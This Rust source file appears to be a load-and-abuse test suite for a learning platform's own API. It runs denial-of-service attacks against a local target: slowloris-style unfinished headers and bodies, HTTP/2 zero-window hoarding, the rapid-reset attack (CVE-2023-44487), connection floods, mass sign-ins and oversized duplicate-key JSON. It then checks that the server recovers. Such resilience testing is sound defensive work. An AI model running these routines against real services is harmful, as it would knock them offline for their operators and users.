//! Attacks on the edge: what a client without an account, or with one, may cost.

use std::time::Duration;

use anyhow::ensure;
use bytes::Bytes;
use cairn_core::actor::Role;
use futures_util::FutureExt;
use futures_util::future::{BoxFuture, join_all};
use h2::Reason;
use poem::http::Request;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

use crate::client::{connect, get, http2, json_client, send};
use crate::guesses;
use crate::target::Target;

/// An attack, which tells what became of it.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) run: fn(&Target) -> BoxFuture<'_, anyhow::Result<String>>,
}

/// The most time for one attack.
pub(crate) const LIMIT: Duration = Duration::from_secs(40);
/// How long most attacks go on.
const TIME: Duration = Duration::from_secs(8);

macro_rules! attacks {
    ($($name:literal $run:path;)*) => { &[$(Attack { name: $name, run: |target| $run(target).boxed() },)*] };
}

pub(crate) const ALL: &[Attack] = attacks! {
    "zero windows" zero_windows;
    "unfinished bodies" unfinished_bodies;
    "unfinished headers" unfinished_headers;
    "many connections" many_connections;
    "reset streams" reset_streams;
    "random sign-ins" random_sign_ins;
    "abandoned sign-ins" abandoned_sign_ins;
    "readers that stall" stalled_readers;
    "answers not taken" answers_not_taken;
    "one learner's flood" flood_of_one;
    "duplicate keys" duplicate_keys;
    "guesses" guesses::many_for_one_account;
    "sprayed guesses" guesses::one_for_many_accounts;
};

/// HTTP/2 clients that take nothing ask for the largest static answers, 300 times each.
async fn zero_windows(target: &Target) -> anyhow::Result<String> {
    take_nothing(target, 40, &["/docs", "/openapi.json", "/reference"], 300, None).await
}

/// So many HTTP/2 clients ask so often for these paths, and take nothing of the answers.
async fn take_nothing(
    target: &Target,
    clients: usize,
    paths: &[&str],
    times: usize,
    token: Option<&str>,
) -> anyhow::Result<String> {
    let mut held = Vec::new();
    for _ in 0..clients {
        let requests = http2(target, 0).await?;
        for path in paths.iter().cycle().take(times) {
            let Ok(Ok(mut ready)) = timeout(Duration::from_millis(50), requests.clone().ready()).await else { break };
            let Ok((answer, _)) = ready.send_request(get(path, token)?, true) else { break };
            held.push(tokio::spawn(async move {
                // Kept, and never read.
                let answer = answer.await;
                sleep(TIME).await;
                drop(answer);
            }));
        }
    }
    sleep(TIME).await;
    Ok(format!("{} answers were asked for and not taken", held.len()))
}

/// 1,200 bodies that never end, for operations with and without a caller.
async fn unfinished_bodies(target: &Target) -> anyhow::Result<String> {
    let mut open = Vec::new();
    for n in 0..1200 {
        let path = if n % 2 == 0 { "/v1/projects" } else { "/v1/auth/login" };
        let length = if n % 2 == 0 { 250_000 } else { 16_000 };
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
        );
        let Ok(mut socket) = connect(target).await else { continue };
        // Refused before the body is read, so writing may fail.
        let _ = socket.write_all(head.as_bytes()).await;
        let _ = timeout(Duration::from_millis(5), socket.write_all(&vec![b' '; length - 1])).await;
        open.push(socket);
    }
    sleep(TIME).await;
    Ok(format!("{} connections with a body that does not end", open.len()))
}

/// Connections that are silent, that stop in the middle of a header, and that send a byte now and then.
async fn unfinished_headers(target: &Target) -> anyhow::Result<String> {
    let beginnings =
        ["", "GET / HTTP/1.1\r\nX: ", "PRI * HTTP/2.0\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"];
    let mut held = Vec::new();
    for beginning in beginnings.iter().cycle().take(3000) {
        if let Ok(socket) = send(target, beginning.as_bytes()).await {
            held.push(socket);
        }
    }
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(14) {
        join_all(held.iter_mut().skip(1).step_by(4).map(|socket| socket.write_all(b"x"))).await;
        sleep(Duration::from_secs(1)).await;
    }
    let opened = held.len();
    let closed = join_all(held.into_iter().map(is_closed)).await.into_iter().filter(|closed| *closed).count();
    ensure!(closed == opened, "{} of {opened} connections are still open", opened - closed);
    Ok(format!("{opened} connections were opened, and none is left"))
}

async fn is_closed(mut socket: TcpStream) -> bool {
    let mut bytes = Vec::new();
    timeout(Duration::from_millis(200), socket.read_to_end(&mut bytes)).await.is_ok()
}

/// Connections as fast as they can be opened.
async fn many_connections(target: &Target) -> anyhow::Result<String> {
    let started = Instant::now();
    let (mut held, mut opened) = (Vec::new(), 0);
    while started.elapsed() < TIME {
        match connect(target).await {
            Ok(socket) => {
                opened += 1;
                held.push(socket);
            }
            Err(_) => sleep(Duration::from_millis(1)).await,
        }
        if held.len() > 2000 {
            held.drain(..1000);
        }
    }
    Ok(format!("{opened} connections"))
}

/// Requests that are cancelled at once, as in the attack of 2023 (CVE-2023-44487).
async fn reset_streams(target: &Target) -> anyhow::Result<String> {
    let started = Instant::now();
    let mut cancelled = 0;
    while started.elapsed() < TIME {
        let Ok(mut requests) = http2(target, 65_535).await else { continue };
        for _ in 0..1000 {
            let Ok(Ok(ready)) = timeout(Duration::from_millis(50), requests.ready()).await else { break };
            requests = ready;
            let request = Request::post("http://localhost/v1/auth/login").header("content-type", "application/json");
            let Ok((_, mut stream)) = requests.send_request(request.body(())?, false) else { break };
            let body = json!({"email": "nobody@example.test", "password": "not this one"}).to_string();
            let _ = stream.send_data(Bytes::from(body), true);
            stream.send_reset(Reason::CANCEL);
            cancelled += 1;
        }
    }
    Ok(format!("{cancelled} requests were cancelled"))
}

fn login(n: usize) -> Value {
    json!({"email": format!("random-{n}@example.test"), "password": "not this one"})
}

/// 5,000 sign-ins to accounts that do not exist, all at once.
async fn random_sign_ins(target: &Target) -> anyhow::Result<String> {
    let client = json_client(target.attacker)?;
    let url = format!("http://127.0.0.1:{}/v1/auth/login", target.api);
    let attempts = (0..5000).map(|n| {
        let request = client.post(&url).json(&login(n)).send();
        async move { request.await.map_or(0, |answer| answer.status().as_u16()) }
    });
    let statuses = join_all(attempts).await;
    let count = |status: u16| statuses.iter().filter(|answer| **answer == status).count();
    ensure!(count(500) == 0, "{} answers were 500", count(500));
    Ok(format!("401: {}, 429: {}, 503: {}, none: {}", count(401), count(429), count(503), count(0)))
}

/// Sign-ins whose clients leave before they are answered.
async fn abandoned_sign_ins(target: &Target) -> anyhow::Result<String> {
    let (started, mut sent) = (Instant::now(), 0);
    while started.elapsed() < TIME {
        let body = login(sent).to_string();
        let head = "POST /v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";
        let request = format!("{head}Content-Length: {}\r\n\r\n{body}", body.len());
        if let Ok(socket) = send(target, request.as_bytes()).await {
            sleep(Duration::from_millis(1)).await;
            drop(socket);
            sent += 1;
        }
    }
    Ok(format!("{sent} clients left"))
}

/// Streams that nobody reads keep their seats neither after signing out nor for ever.
async fn stalled_readers(target: &Target) -> anyhow::Result<String> {
    let mut held = Vec::new();
    for n in 0..20 {
        let reader = target.person(&format!("reader-{n}"), Role::Student).await?;
        let mut requests = http2(target, 0).await?.ready().await?;
        let (answer, _) = requests.send_request(get("/v1/me/events", Some(&reader.token))?, true)?;
        held.push((answer.await?, requests));
        sqlx::query("UPDATE sessions SET revoked_at = now(), revoke_reason = 'logout' WHERE id = $1")
            .bind(reader.session_id)
            .execute(&target.pool)
            .await?;
    }
    let (started, client) = (Instant::now(), json_client(crate::client::USERS)?);
    let open = loop {
        let metrics = client.get(format!("http://127.0.0.1:{}/metrics", target.ops)).send().await?.text().await?;
        let open = metrics.lines().find_map(|line| line.strip_prefix("cairn_reply_streams ")?.parse::<u32>().ok());
        if open == Some(0) || started.elapsed() > Duration::from_secs(32) {
            break open;
        }
        sleep(Duration::from_millis(200)).await;
    };
    ensure!(open == Some(0), "{open:?} of {} streams are still open", held.len());
    Ok(format!("{} seats were free again", held.len()))
}

/// Answers of a learner's own, as large as they come, that are not taken.
async fn answers_not_taken(target: &Target) -> anyhow::Result<String> {
    let reader = target.person("hoarder", Role::Student).await?;
    take_nothing(target, 20, &["/v1/me/export"], 100, Some(&reader.token)).await
}

/// One learner asks for what is expensive as often as they can, on 64 connections.
async fn flood_of_one(target: &Target) -> anyhow::Result<String> {
    let person = target.person("flood", Role::Student).await?;
    let client = json_client(target.attacker)?;
    let url = format!("http://127.0.0.1:{}/v1/search?q=grid+table+layout", target.api);
    let started = Instant::now();
    let asking = (0..64).map(|_| {
        let (client, url, token) = (client.clone(), url.clone(), person.token.clone());
        async move {
            let (mut answered, mut refused) = (0, 0);
            while started.elapsed() < TIME {
                match client.get(&url).bearer_auth(&token).send().await {
                    Ok(answer) if answer.status() == 200 => answered += 1,
                    _ => refused += 1,
                }
            }
            (answered, refused)
        }
    });
    let counts = join_all(asking).await;
    let (answered, refused) = counts.iter().fold((0, 0), |(a, r), (answered, refused)| (a + answered, r + refused));
    Ok(format!("{answered} answered, {refused} refused"))
}

/// Bodies with as many members of the same name as fit.
async fn duplicate_keys(target: &Target) -> anyhow::Result<String> {
    let person = target.person("keys", Role::Student).await?;
    let body = format!("{{{}}}", vec!["\"a\":1"; 40_000].join(","));
    let client = json_client(target.attacker)?;
    let url = format!("http://127.0.0.1:{}/v1/projects", target.api);
    let started = Instant::now();
    let asking = (0..4).map(|_| {
        let (client, url, token, body) = (client.clone(), url.clone(), person.token.clone(), body.clone());
        async move {
            let mut answered = 0;
            while started.elapsed() < TIME {
                let request = client.post(&url).bearer_auth(&token).header("content-type", "application/json");
                answered += u32::from(request.body(body.clone()).send().await.is_ok());
            }
            answered
        }
    });
    Ok(format!("{} bodies were checked", join_all(asking).await.iter().sum::<u32>()))
}
